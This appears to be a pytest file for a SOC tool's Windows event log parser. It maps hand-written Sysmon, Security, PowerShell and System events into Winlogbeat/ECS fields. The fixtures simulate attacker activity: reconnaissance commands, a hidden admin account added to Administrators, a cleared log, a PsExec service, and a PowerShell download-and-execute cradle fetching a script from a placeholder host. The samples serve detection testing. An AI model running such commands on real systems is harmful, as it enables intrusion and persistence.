"""The winlog parser: hand-written Windows events in, whole Winlogbeat-shaped events out."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest

from collectors.parsers.winlog import ECS_FIELDS, VARIABLE_FIELDS, WinlogParser, winlog_event
from soc.errors import ParseError
from soc.pipeline.sources import ParseContext


def _record(channel: str, provider: str, eid: Any, rid: int, *, data: Any = None,
            user_data: Any = None, guid: str = "54849625-5478-4994-A5BA-3E3B0328C30D",
            user: str | None = None, level: int = 0,
            keywords: str = "0x8020000000000000") -> dict[str, Any]:
    """An event as the evtx package renders it (hand-written, not from any corpus)."""
    system: dict[str, Any] = {
        "Provider": {"#attributes": {"Name": provider, "Guid": guid}},
        "EventID": eid, "Version": 2, "Level": level, "Task": 0, "Opcode": 0,
        "Keywords": keywords,
        "TimeCreated": {"#attributes": {"SystemTime": "2026-11-24T01:15:30.123456Z"}},
        "EventRecordID": rid, "Correlation": None,
        "Execution": {"#attributes": {"ProcessID": 688, "ThreadID": 720}},
        "Channel": channel, "Computer": "dc01.sotttt.gov.vn",
        "Security": {"#attributes": {"UserID": user}} if user else None,
    }
    event: dict[str, Any] = {"System": system}
    if data is not None:
        event["EventData"] = data
    if user_data is not None:
        event["UserData"] = user_data
    return {"Event": event}


SYSMON_GUID = "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")

SYSMON_1 = _record(
    "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, 5001,
    guid=SYSMON_GUID, user="S-1-5-18", level=4, keywords="0x8000000000000000", data={
        "RuleName": "-", "UtcTime": "2026-11-24 01:15:30.120",
        "ProcessGuid": "1B2C3D4E-0001-0002-0003-000000000A00", "ProcessId": 4242,
        "Image": "C:\\Windows\\System32\\cmd.exe", "FileVersion": "10.0.19041.1",
        "Description": "Windows Command Processor", "Product": "Microsoft Windows",
        "Company": "Microsoft Corporation", "OriginalFileName": "Cmd.Exe",
        "CommandLine": "cmd.exe /c whoami /all", "CurrentDirectory": "C:\\Users\\an\\",
        "User": "NT AUTHORITY\\SYSTEM", "LogonId": "0x3e7", "TerminalSessionId": 0,
        "IntegrityLevel": "System", "Hashes": "SHA256=00AA",
        "ParentProcessGuid": "1B2C3D4E-0001-0002-0003-000000000900", "ParentProcessId": 4100,
        "ParentImage": "C:\\Windows\\System32\\services.exe",
        "ParentCommandLine": "C:\\Windows\\system32\\services.exe",
    })
SECURITY_4624 = _record(*SECURITY, 4624, 9001, data={
    "SubjectUserSid": "S-1-5-18", "SubjectUserName": "DC01$", "SubjectDomainName": "SOTTTT",
    "SubjectLogonId": "0x3e7", "TargetUserSid": "S-1-5-21-1-2-3-1104", "TargetUserName": "nam",
    "TargetDomainName": "SOTTTT", "TargetLogonId": "0x1a2b3c", "LogonType": 3,
    "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
    "WorkstationName": "PC-KETOAN", "IpAddress": "10.20.30.40", "IpPort": "49811",
    "ProcessId": "0x0", "ProcessName": "-",
})
SECURITY_4625 = _record(*SECURITY, 4625, 9002, keywords="0x8010000000000000", data={
    "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
    "SubjectLogonId": "0x0", "TargetUserName": "administrator", "TargetDomainName": "",
    "Status": "0xc000006d", "SubStatus": "0xc000006a", "LogonType": 3,
    "IpAddress": "203.0.113.9", "IpPort": "0",
})
SECURITY_4688 = _record(*SECURITY, 4688, 9003, data={
    "SubjectUserSid": "S-1-5-21-1-2-3-1104", "SubjectUserName": "nam",
    "SubjectDomainName": "SOTTTT", "SubjectLogonId": "0x1a2b3c", "NewProcessId": "0x1fc",
    "NewProcessName": "C:\\Windows\\System32\\net.exe", "TokenElevationType": "%%1936",
    "ProcessId": "0x278", "CommandLine": "net user /domain",
    "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
})
SECURITY_4720 = _record(*SECURITY, 4720, 9004, data={
    "TargetUserName": "backup$", "TargetDomainName": "SOTTTT",
    "TargetSid": "S-1-5-21-1-2-3-1200", "SubjectUserSid": "S-1-5-21-1-2-3-500",
    "SubjectUserName": "Administrator", "SubjectDomainName": "SOTTTT",
    "SubjectLogonId": "0x4d2", "SamAccountName": "backup$",
})
SECURITY_4732 = _record(*SECURITY, 4732, 9005, data={
    "MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1200", "TargetUserName": "Administrators",
    "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544",
    "SubjectUserSid": "S-1-5-21-1-2-3-500", "SubjectUserName": "Administrator",
    "SubjectDomainName": "SOTTTT", "SubjectLogonId": "0x4d2", "PrivilegeList": "-",
})
SECURITY_1102 = _record(
    "Security", "Microsoft-Windows-Eventlog", 1102, 9006,
    guid="fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148", user_data={"LogFileCleared": {
        "#attributes": {"xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"},
        "SubjectUserSid": "S-1-5-21-1-2-3-500", "SubjectUserName": "Administrator",
        "SubjectDomainName": "SOTTTT", "SubjectLogonId": "0x4d2",
    }})
POWERSHELL_4104 = _record(
    "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, 77,
    guid="A0C1853B-5C40-4B15-8766-3CF1C58F985A", user="S-1-5-21-1-2-3-1104", level=5,
    keywords="0x0", data={
        "MessageNumber": 1, "MessageTotal": 1,
        "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
        "ScriptBlockId": "7F3B1C2D-0000-4000-8000-000000000001", "Path": "",
    })
SYSTEM_7045 = _record(
    "System", "Service Control Manager", {"#attributes": {"Qualifiers": 16384}, "#text": 7045},
    4480, guid="555908d1-a6d7-4695-8e1e-26931d2012f4", user="S-1-5-21-1-2-3-500", level=4,
    keywords="0x8080000000000000", data={
        "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
        "ServiceType": "user mode service", "StartType": "demand start",
        "AccountName": "LocalSystem",
    })


EXPECTED_SYSMON_1 = {'@timestamp': '2026-11-24T01:15:30.123Z',
 'winlog.channel': 'Microsoft-Windows-Sysmon/Operational',
 'winlog.provider_name': 'Microsoft-Windows-Sysmon',
 'winlog.event_id': 1,
 'winlog.provider_guid': '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}',
 'winlog.record_id': 5001,
 'winlog.computer_name': 'dc01.sotttt.gov.vn',
 'winlog.process.pid': 688,
 'winlog.process.thread.id': 720,
 'winlog.user.identifier': 'S-1-5-18',
 'winlog.version': 2,
 'host.name': 'dc01.sotttt.gov.vn',
 'log.level': 'information',
 'winlog.event_data.RuleName': '-',
 'winlog.event_data.UtcTime': '2026-11-24 01:15:30.120',
 'winlog.event_data.ProcessGuid': '1B2C3D4E-0001-0002-0003-000000000A00',
 'winlog.event_data.ProcessId': '4242',
 'winlog.event_data.Image': 'C:\\Windows\\System32\\cmd.exe',
 'winlog.event_data.FileVersion': '10.0.19041.1',
 'winlog.event_data.Description': 'Windows Command Processor',
 'winlog.event_data.Product': 'Microsoft Windows',
 'winlog.event_data.Company': 'Microsoft Corporation',
 'winlog.event_data.OriginalFileName': 'Cmd.Exe',
 'winlog.event_data.CommandLine': 'cmd.exe /c whoami /all',
 'winlog.event_data.CurrentDirectory': 'C:\\Users\\an\\',
 'winlog.event_data.User': 'NT AUTHORITY\\SYSTEM',
 'winlog.event_data.LogonId': '0x3e7',
 'winlog.event_data.TerminalSessionId': '0',
 'winlog.event_data.IntegrityLevel': 'System',
 'winlog.event_data.Hashes': 'SHA256=00AA',
 'winlog.event_data.ParentProcessGuid': '1B2C3D4E-0001-0002-0003-000000000900',
 'winlog.event_data.ParentProcessId': '4100',
 'winlog.event_data.ParentImage': 'C:\\Windows\\System32\\services.exe',
 'winlog.event_data.ParentCommandLine': 'C:\\Windows\\system32\\services.exe',
 'event.code': '1',
 'event.kind': 'event',
 'event.provider': 'Microsoft-Windows-Sysmon',
 'event.module': 'sysmon',
 'event.dataset': 'windows.sysmon_operational',
 'process.entity_id': '1B2C3D4E-0001-0002-0003-000000000A00',
 'process.pid': 4242,
 'process.executable': 'C:\\Windows\\System32\\cmd.exe',
 'process.pe.file_version': '10.0.19041.1',
 'process.pe.description': 'Windows Command Processor',
 'process.pe.product': 'Microsoft Windows',
 'process.pe.company': 'Microsoft Corporation',
 'process.pe.original_file_name': 'Cmd.Exe',
 'process.command_line': 'cmd.exe /c whoami /all',
 'process.working_directory': 'C:\\Users\\an\\',
 'user.name': 'NT AUTHORITY\\SYSTEM',
 'process.parent.entity_id': '1B2C3D4E-0001-0002-0003-000000000900',
 'process.parent.pid': 4100,
 'process.parent.executable': 'C:\\Windows\\System32\\services.exe',
 'process.parent.command_line': 'C:\\Windows\\system32\\services.exe',
 'user.domain': 'NT AUTHORITY',
 'related.user': ['SYSTEM'],
 'process.name': 'cmd.exe',
 'process.parent.name': 'services.exe'}

EXPECTED_SECURITY_4624 = {'@timestamp': '2026-11-24T01:15:30.123Z',
 'winlog.channel': 'Security',
 'winlog.provider_name': 'Microsoft-Windows-Security-Auditing',
 'winlog.event_id': 4624,
 'winlog.provider_guid': '{54849625-5478-4994-A5BA-3E3B0328C30D}',
 'winlog.record_id': 9001,
 'winlog.computer_name': 'dc01.sotttt.gov.vn',
 'winlog.process.pid': 688,
 'winlog.process.thread.id': 720,
 'winlog.version': 2,
 'host.name': 'dc01.sotttt.gov.vn',
 'log.level': 'information',
 'winlog.event_data.SubjectUserSid': 'S-1-5-18',
 'winlog.event_data.SubjectUserName': 'DC01$',
 'winlog.event_data.SubjectDomainName': 'SOTTTT',
 'winlog.event_data.SubjectLogonId': '0x3e7',
 'winlog.event_data.TargetUserSid': 'S-1-5-21-1-2-3-1104',
 'winlog.event_data.TargetUserName': 'nam',
 'winlog.event_data.TargetDomainName': 'SOTTTT',
 'winlog.event_data.TargetLogonId': '0x1a2b3c',
 'winlog.event_data.LogonType': '3',
 'winlog.event_data.LogonProcessName': 'NtLmSsp ',
 'winlog.event_data.AuthenticationPackageName': 'NTLM',
 'winlog.event_data.WorkstationName': 'PC-KETOAN',
 'winlog.event_data.IpAddress': '10.20.30.40',
 'winlog.event_data.IpPort': '49811',
 'winlog.event_data.ProcessId': '0x0',
 'winlog.event_data.ProcessName': '-',
 'event.code': '4624',
 'event.kind': 'event',
 'event.provider': 'Microsoft-Windows-Security-Auditing',
 'event.module': 'security',
 'event.dataset': 'windows.security',
 'event.outcome': 'success',
 'user.id': 'S-1-5-21-1-2-3-1104',
 'user.name': 'nam',
 'user.domain': 'SOTTTT',
 'winlog.logon.id': ['0x3e7', '0x1a2b3c'],
 'source.domain': 'PC-KETOAN',
 'source.ip': '10.20.30.40',
 'source.port': 49811,
 'process.pid': 0,
 'process.executable': '-',
 'winlog.logon.type': 'Network',
 'related.user': ['nam', 'DC01$'],
 'related.ip': ['10.20.30.40']}

EXPECTED_SECURITY_4625 = {'@timestamp': '2026-11-24T01:15:30.123Z',
 'winlog.channel': 'Security',
 'winlog.provider_name': 'Microsoft-Windows-Security-Auditing',
 'winlog.event_id': 4625,
 'winlog.provider_guid': '{54849625-5478-4994-A5BA-3E3B0328C30D}',
 'winlog.record_id': 9002,
 'winlog.computer_name': 'dc01.sotttt.gov.vn',
 'winlog.process.pid': 688,
 'winlog.process.thread.id': 720,
 'winlog.version': 2,
 'host.name': 'dc01.sotttt.gov.vn',
 'log.level': 'information',
 'winlog.event_data.SubjectUserSid': 'S-1-0-0',
 'winlog.event_data.SubjectUserName': '-',
 'winlog.event_data.SubjectDomainName': '-',
 'winlog.event_data.SubjectLogonId': '0x0',
 'winlog.event_data.TargetUserName': 'administrator',
 'winlog.event_data.TargetDomainName': '',
 'winlog.event_data.Status': '0xc000006d',
 'winlog.event_data.SubStatus': '0xc000006a',
 'winlog.event_data.LogonType': '3',
 'winlog.event_data.IpAddress': '203.0.113.9',
 'winlog.event_data.IpPort': '0',
 'event.code': '4625',
 'event.kind': 'event',
 'event.provider': 'Microsoft-Windows-Security-Auditing',
 'event.module': 'security',
 'event.dataset': 'windows.security',
 'event.outcome': 'failure',
 'user.name': 'administrator',
 'winlog.logon.id': '0x0',
 'source.ip': '203.0.113.9',
 'source.port': 0,
 'winlog.logon.type': 'Network',
 'related.user': ['administrator'],
 'related.ip': ['203.0.113.9']}

EXPECTED_SECURITY_4688 = {'@timestamp': '2026-11-24T01:15:30.123Z',
 'winlog.channel': 'Security',
 'winlog.provider_name': 'Microsoft-Windows-Security-Auditing',
 'winlog.event_id': 4688,
 'winlog.provider_guid': '{54849625-5478-4994-A5BA-3E3B0328C30D}',
 'winlog.record_id': 9003,
 'winlog.computer_name': 'dc01.sotttt.gov.vn',
 'winlog.process.pid': 688,
 'winlog.process.thread.id': 720,
 'winlog.version': 2,
 'host.name': 'dc01.sotttt.gov.vn',
 'log.level': 'information',
 'winlog.event_data.SubjectUserSid': 'S-1-5-21-1-2-3-1104',
 'winlog.event_data.SubjectUserName': 'nam',
 'winlog.event_data.SubjectDomainName': 'SOTTTT',
 'winlog.event_data.SubjectLogonId': '0x1a2b3c',
 'winlog.event_data.NewProcessId': '0x1fc',
 'winlog.event_data.NewProcessName': 'C:\\Windows\\System32\\net.exe',
 'winlog.event_data.TokenElevationType': '%%1936',
 'winlog.event_data.ProcessId': '0x278',
 'winlog.event_data.CommandLine': 'net user /domain',
 'winlog.event_data.ParentProcessName': 'C:\\Windows\\System32\\cmd.exe',
 'event.code': '4688',
 'event.kind': 'event',
 'event.provider': 'Microsoft-Windows-Security-Auditing',
 'event.module': 'security',
 'event.dataset': 'windows.security',
 'event.outcome': 'success',
 'user.id': 'S-1-5-21-1-2-3-1104',
 'user.name': 'nam',
 'user.domain': 'SOTTTT',
 'winlog.logon.id': '0x1a2b3c',
 'process.pid': 508,
 'process.executable': 'C:\\Windows\\System32\\net.exe',
 'process.command_line': 'net user /domain',
 'process.parent.name': 'cmd.exe',
 'process.parent.executable': 'C:\\Windows\\System32\\cmd.exe',
 'process.parent.pid': 632,
 'related.user': ['nam'],
 'process.name': 'net.exe'}

EXPECTED_SECURITY_4720 = {'@timestamp': '2026-11-24T01:15:30.123Z',
 'winlog.channel': 'Security',
 'winlog.provider_name': 'Microsoft-Windows-Security-Auditing',
 'winlog.event_id': 4720,
 'winlog.provider_guid': '{54849625-5478-4994-A5BA-3E3B0328C30D}',
 'winlog.record_id': 9004,
 'winlog.computer_name': 'dc01.sotttt.gov.vn',
 'winlog.process.pid': 688,
 'winlog.process.thread.id': 720,
 'winlog.version': 2,
 'host.name': 'dc01.sotttt.gov.vn',
 'log.level': 'information',
 'winlog.event_data.TargetUserName': 'backup$',
 'winlog.event_data.TargetDomainName': 'SOTTTT',
 'winlog.event_data.TargetSid': 'S-1-5-21-1-2-3-1200',
 'winlog.event_data.SubjectUserSid': 'S-1-5-21-1-2-3-500',
 'winlog.event_data.SubjectUserName': 'Administrator',
 'winlog.event_data.SubjectDomainName': 'SOTTTT',
 'winlog.event_data.SubjectLogonId': '0x4d2',
 'winlog.event_data.SamAccountName': 'backup$',
 'event.code': '4720',
 'event.kind': 'event',
 'event.provider': 'Microsoft-Windows-Security-Auditing',
 'event.module': 'security',
 'event.dataset': 'windows.security',
 'event.outcome': 'success',
 'user.domain': 'SOTTTT',
 'user.id': 'S-1-5-21-1-2-3-500',
 'user.name': 'Administrator',
 'winlog.logon.id': '0x4d2',
 'user.target.id': 'S-1-5-21-1-2-3-1200',
 'user.target.name': 'backup$',
 'user.target.domain': 'SOTTTT',
 'related.user': ['Administrator', 'backup$']}

EXPECTED_SECURITY_4732 = {'@timestamp': '2026-11-24T01:15:30.123Z',
 'winlog.channel': 'Security',
 'winlog.provider_name': 'Microsoft-Windows-Security-Auditing',
 'winlog.event_id': 4732,
 'winlog.provider_guid': '{54849625-5478-4994-A5BA-3E3B0328C30D}',
 'winlog.record_id': 9005,
 'winlog.computer_name': 'dc01.sotttt.gov.vn',
 'winlog.process.pid': 688,
 'winlog.process.thread.id': 720,
 'winlog.version': 2,
 'host.name': 'dc01.sotttt.gov.vn',
 'log.level': 'information',
 'winlog.event_data.MemberName': '-',
 'winlog.event_data.MemberSid': 'S-1-5-21-1-2-3-1200',
 'winlog.event_data.TargetUserName': 'Administrators',
 'winlog.event_data.TargetDomainName': 'Builtin',
 'winlog.event_data.TargetSid': 'S-1-5-32-544',
 'winlog.event_data.SubjectUserSid': 'S-1-5-21-1-2-3-500',
 'winlog.event_data.SubjectUserName': 'Administrator',
 'winlog.event_data.SubjectDomainName': 'SOTTTT',
 'winlog.event_data.SubjectLogonId': '0x4d2',
 'winlog.event_data.PrivilegeList': '-',
 'event.code': '4732',
 'event.kind': 'event',
 'event.provider': 'Microsoft-Windows-Security-Auditing',
 'event.module': 'security',
 'event.dataset': 'windows.security',
 'event.outcome': 'success',
 'user.domain': 'SOTTTT',
 'user.id': 'S-1-5-21-1-2-3-500',
 'user.name': 'Administrator',
 'winlog.logon.id': '0x4d2',
 'user.target.id': 'S-1-5-21-1-2-3-1200',
 'group.id': 'S-1-5-32-544',
 'group.name': 'Administrators',
 'group.domain': 'Builtin',
 'related.user': ['Administrator']}

EXPECTED_SECURITY_1102 = {'@timestamp': '2026-11-24T01:15:30.123Z',
 'winlog.channel': 'Security',
 'winlog.provider_name': 'Microsoft-Windows-Eventlog',
 'winlog.event_id': 1102,
 'winlog.provider_guid': '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}',
 'winlog.record_id': 9006,
 'winlog.computer_name': 'dc01.sotttt.gov.vn',
 'winlog.process.pid': 688,
 'winlog.process.thread.id': 720,
 'winlog.version': 2,
 'host.name': 'dc01.sotttt.gov.vn',
 'log.level': 'information',
 'winlog.user_data.xml_name': 'LogFileCleared',
 'winlog.user_data.SubjectUserSid': 'S-1-5-21-1-2-3-500',
 'winlog.user_data.SubjectUserName': 'Administrator',
 'winlog.user_data.SubjectDomainName': 'SOTTTT',
 'winlog.user_data.SubjectLogonId': '0x4d2',
 'event.code': '1102',
 'event.kind': 'event',
 'event.provider': 'Microsoft-Windows-Eventlog',
 'event.module': 'security',
 'event.dataset': 'windows.security',
 'event.outcome': 'success',
 'user.id': 'S-1-5-21-1-2-3-500',
 'user.name': 'Administrator',
 'user.domain': 'SOTTTT',
 'winlog.logon.id': '0x4d2',
 'related.user': ['Administrator']}

EXPECTED_POWERSHELL_4104 = {'@timestamp': '2026-11-24T01:15:30.123Z',
 'winlog.channel': 'Microsoft-Windows-PowerShell/Operational',
 'winlog.provider_name': 'Microsoft-Windows-PowerShell',
 'winlog.event_id': 4104,
 'winlog.provider_guid': '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}',
 'winlog.record_id': 77,
 'winlog.computer_name': 'dc01.sotttt.gov.vn',
 'winlog.process.pid': 688,
 'winlog.process.thread.id': 720,
 'winlog.user.identifier': 'S-1-5-21-1-2-3-1104',
 'winlog.version': 2,
 'host.name': 'dc01.sotttt.gov.vn',
 'log.level': 'verbose',
 'winlog.event_data.MessageNumber': '1',
 'winlog.event_data.MessageTotal': '1',
 'winlog.event_data.ScriptBlockText': 'IEX (New-Object '
                                      "Net.WebClient).DownloadString('http://x/a.ps1')",
 'winlog.event_data.ScriptBlockId': '7F3B1C2D-0000-4000-8000-000000000001',
 'winlog.event_data.Path': '',
 'event.code': '4104',
 'event.kind': 'event',
 'event.provider': 'Microsoft-Windows-PowerShell',
 'event.module': 'powershell',
 'event.dataset': 'windows.powershell_operational',
 'powershell.sequence': '1',
 'powershell.total': '1',
 'powershell.file.script_block_text': 'IEX (New-Object '
                                      "Net.WebClient).DownloadString('http://x/a.ps1')",
 'powershell.file.script_block_id': '7F3B1C2D-0000-4000-8000-000000000001'}

EXPECTED_SYSTEM_7045 = {'@timestamp': '2026-11-24T01:15:30.123Z',
 'winlog.channel': 'System',
 'winlog.provider_name': 'Service Control Manager',
 'winlog.event_id': 7045,
 'winlog.provider_guid': '{555908d1-a6d7-4695-8e1e-26931d2012f4}',
 'winlog.record_id': 4480,
 'winlog.computer_name': 'dc01.sotttt.gov.vn',
 'winlog.process.pid': 688,
 'winlog.process.thread.id': 720,
 'winlog.user.identifier': 'S-1-5-21-1-2-3-500',
 'winlog.version': 2,
 'host.name': 'dc01.sotttt.gov.vn',
 'log.level': 'information',
 'winlog.event_data.ServiceName': 'PSEXESVC',
 'winlog.event_data.ImagePath': '%SystemRoot%\\PSEXESVC.exe',
 'winlog.event_data.ServiceType': 'user mode service',
 'winlog.event_data.StartType': 'demand start',
 'winlog.event_data.AccountName': 'LocalSystem',
 'event.code': '7045',
 'event.kind': 'event',
 'event.provider': 'Service Control Manager',
 'event.module': 'windows',
 'event.dataset': 'windows.system',
 'user.name': 'LocalSystem',
 'service.name': 'PSEXESVC'}


@pytest.mark.parametrize("name", [
    "SYSMON_1", "SECURITY_4624", "SECURITY_4625", "SECURITY_4688", "SECURITY_4720",
    "SECURITY_4732", "SECURITY_1102", "POWERSHELL_4104", "SYSTEM_7045",
])
def test_whole_event(name: str) -> None:
    assert winlog_event(globals()[name]) == globals()[f"EXPECTED_{name}"]


def test_values_are_strings_in_event_data_and_typed_in_ecs() -> None:
    event = winlog_event(SECURITY_4624)
    assert event["winlog.event_data.LogonType"] == "3"
    assert event["source.port"] == 49811
    assert event["event.code"] == "4624"
    assert event["winlog.event_id"] == 4624


def test_several_fields_mapped_to_one_ecs_field_make_a_list() -> None:
    # 4624: SubjectLogonId and TargetLogonId both map to winlog.logon.id
    assert winlog_event(SECURITY_4624)["winlog.logon.id"] == ["0x3e7", "0x1a2b3c"]
    # ...but 4688's ProcessId is the creator: process.parent.pid, as Winlogbeat ships it
    event = winlog_event(SECURITY_4688)
    assert (event["process.pid"], event["process.parent.pid"]) == (508, 632)


def test_unnamed_data_become_params_and_data() -> None:
    record = _record("Application", "MSSQLSERVER", 18456, 3, data={
        "Data": {"#text": ["sa", " Reason: Password did not match.", " [CLIENT: 10.0.0.7]"]},
        "Binary": "18480000",
    })
    event = winlog_event(record)
    assert {k: v for k, v in event.items() if k.startswith("winlog.event_data.")} == {
        "winlog.event_data.param1": "sa",
        "winlog.event_data.param2": " Reason: Password did not match.",
        "winlog.event_data.param3": " [CLIENT: 10.0.0.7]",
        "winlog.event_data.Data": ["sa", " Reason: Password did not match.",
                                   " [CLIENT: 10.0.0.7]"],
        "winlog.event_data.Binary": "18480000",
    }
    assert event["event.dataset"] == "windows.application"


def test_powershell_classic_key_values_feed_the_ecs_fields() -> None:
    record = _record("Windows PowerShell", "PowerShell", 400, 12, data={"Data": {"#text": [
        "Available", "None",
        "\tNewEngineState=Available\r\n\tHostName=ConsoleHost\r\n\tHostVersion=2.0\r\n"
        "\tEngineVersion=2.0\r\n\tHostApplication=powershell -version 2 -c whoami\r\n",
    ]}})
    event = winlog_event(record)
    assert event["event.dataset"] == "windows.powershell"
    assert event["powershell.engine.version"] == "2.0"
    assert event["powershell.process.executable_version"] == "2.0"
    assert event["process.command_line"] == "powershell -version 2 -c whoami"
    assert event["process.title"] == "ConsoleHost"


def test_sysmon_network_and_image_load_mappings() -> None:
    net = winlog_event(_record(
        "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 3, 8,
        data={"Image": "C:\\x.exe", "Protocol": "tcp", "Initiated": True,
              "DestinationIp": "198.51.100.4", "DestinationPort": 443}))
    assert (net["network.transport"], net["network.direction"]) == ("tcp", "egress")
    assert (net["destination.ip"], net["destination.port"]) == ("198.51.100.4", 443)
    load = winlog_event(_record(
        "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 7, 9,
        data={"ImageLoaded": "C:\\a.dll", "OriginalFileName": "a.dll", "Signed": "false",
              "Signature": "ACME"}))
    assert load["file.path"] == "C:\\a.dll"
    assert load["file.pe.original_file_name"] == "a.dll"
    assert load["file.code_signature.signed"] is False
    assert load["file.code_signature.subject_name"] == "ACME"
    assert "process.pe.original_file_name" not in load


def test_winlogbeat_json_gives_the_same_event() -> None:
    doc = {
        "@timestamp": "2026-11-24T01:15:30.123Z",
        "agent": {"type": "winlogbeat", "version": "8.15.0"},
        "winlog": {
            "channel": "Security", "provider_name": "Microsoft-Windows-Security-Auditing",
            "provider_guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}", "event_id": "4624",
            "record_id": 9001, "computer_name": "dc01.sotttt.gov.vn", "version": 2,
            "process": {"pid": 688, "thread": {"id": 720}},
            "event_data": {k[len("winlog.event_data."):]: v
                           for k, v in EXPECTED_SECURITY_4624.items()
                           if k.startswith("winlog.event_data.")},
        },
        "event": {"code": "4624", "kind": "event", "outcome": "success"},
        "log": {"level": "information"},
    }
    event = winlog_event(doc)
    assert event == {**EXPECTED_SECURITY_4624, "agent.type": "winlogbeat",
                     "agent.version": "8.15.0"}
    flat = {**{k: v for k, v in EXPECTED_SECURITY_4624.items()}, "winlog.event_id": "4624"}
    assert winlog_event(flat) == EXPECTED_SECURITY_4624


def test_nxlog_json() -> None:
    record = {
        "EventTime": "2026-11-24 08:15:30", "Hostname": "pc-ketoan.sotttt.gov.vn",
        "Keywords": "0x8020000000000000", "EventType": "AUDIT_SUCCESS", "SeverityValue": 2,
        "Severity": "INFO", "EventID": 4688, "SourceName": "Microsoft-Windows-Security-Auditing",
        "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Version": 2, "Task": 13312,
        "RecordNumber": 311, "ExecutionProcessID": 4, "ThreadID": 96, "Channel": "Security",
        "Message": "A new process has been created.", "NewProcessId": "0x1fc",
        "NewProcessName": "C:\\Windows\\System32\\net.exe", "CommandLine": "net user",
        "SubjectUserName": "nam", "EventReceivedTime": "2026-11-24 08:15:31",
    }
    event = winlog_event(record, tz=timezone(timedelta(hours=7)))
    assert event == {
        "@timestamp": "2026-11-24T01:15:30.000Z", "winlog.channel": "Security",
        "winlog.provider_name": "Microsoft-Windows-Security-Auditing", "winlog.event_id": 4688,
        "winlog.provider_guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}",
        "winlog.record_id": 311, "winlog.computer_name": "pc-ketoan.sotttt.gov.vn",
        "winlog.process.pid": 4, "winlog.process.thread.id": 96, "winlog.version": 2,
        "host.name": "pc-ketoan.sotttt.gov.vn", "log.level": "info",
        "winlog.event_data.NewProcessId": "0x1fc",
        "winlog.event_data.NewProcessName": "C:\\Windows\\System32\\net.exe",
        "winlog.event_data.CommandLine": "net user", "winlog.event_data.SubjectUserName": "nam",
        "event.code": "4688", "event.kind": "event",
        "event.provider": "Microsoft-Windows-Security-Auditing", "event.module": "security",
        "event.dataset": "windows.security", "event.outcome": "success", "process.pid": 508,
        "process.executable": "C:\\Windows\\System32\\net.exe",
        "process.command_line": "net user", "user.name": "nam", "process.name": "net.exe",
        "related.user": ["nam"],
    }


def test_parser_sniff_and_parse() -> None:
    parser = WinlogParser()
    ctx = ParseContext(tz=UTC, now=datetime(2026, 11, 24, tzinfo=UTC))
    line = json.dumps(SYSTEM_7045)
    assert parser.sniff(line)
    assert parser.sniff('{"winlog": {"channel": "System"}}')
    assert parser.sniff('{"EventID": 4624, "Channel": "Security"}')
    assert not parser.sniff('{"message": "hello"}')
    assert not parser.sniff("Nov 24 08:15:30 host sshd[1]: Accepted password")
    assert parser.parse(line, ctx) == EXPECTED_SYSTEM_7045


@pytest.mark.parametrize(("text", "reason"), [
    ("{not json", "invalid JSON"),
    ("[1, 2]", "not a JSON object"),
    ('{"message": "x"}', "not a Windows event"),
    ('{"Event": {"System": {"EventID": 1, "Channel": "System"}}}', "TimeCreated"),
    ('{"Event": {"System": {"Channel": "System"}}}', "not a usable Windows event"),
])
def test_bad_records_raise_parse_error(text: str, reason: str) -> None:
    ctx = ParseContext(tz=UTC, now=datetime(2026, 11, 24, tzinfo=UTC))
    with pytest.raises(ParseError, match=reason):
        WinlogParser().parse(text, ctx)


def test_mapping_tables_match_the_installed_ecs_windows_pipeline() -> None:
    from sigma.pipelines.elasticsearch.windows import ecs_windows, ecs_windows_variable_mappings

    pipeline = ecs_windows()
    item = next(i for i in pipeline.items if i.identifier == "ecs_windows_field_mapping")
    theirs = {k: v for k, v in item.transformation.mapping.items()
              if k not in ("EventID", "Channel", "Provider_Name", "ComputerName")}
    ours = {k: v.removesuffix(".caseless") for k, v in theirs.items()}
    assert ours == ECS_FIELDS
    for name, mappings in ecs_windows_variable_mappings.items():
        for _kind, context, target in mappings:
            if context == "image_loaded":  # a category Sigma does not have; never applies
                continue
            assert VARIABLE_FIELDS[context][name] == target


# --- Azure Log Analytics rows (hand-written in the shape of the SecurityEvent, WindowsEvent
# tables; not copied from any corpus) ------------------------------------------------------------

AZURE_ROW = {"TenantId": "t-1", "TimeGenerated": "2026-11-24T01:15:30.5Z",
             "SourceSystem": "OpsManager", "Computer": "PC-KETOAN", "Channel": "Security",
             "Task": 12544, "Level": "0", "Type": "SecurityEvent",
             "EventSourceName": "Microsoft-Windows-Security-Auditing",
             "_ResourceId": "/subscriptions/x/virtualmachines/pc-ketoan"}
AZURE_4624_XML = (
    '<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">\r\n'
    '  <Data Name="SubjectUserSid">S-1-5-18</Data>\r\n'
    '  <Data Name="SubjectLogonId">0x3e7</Data>\r\n'
    '  <Data Name="TargetUserName">nam</Data>\r\n'
    '  <Data Name="TargetDomainName">SOTTTT</Data>\r\n'
    '  <Data Name="TargetLogonId">0x1a2b3c</Data>\r\n'
    '  <Data Name="LogonType">3</Data>\r\n'
    '  <Data Name="LogonProcessName">NtLmSsp </Data>\r\n'
    '  <Data Name="WorkstationName"/>\r\n'
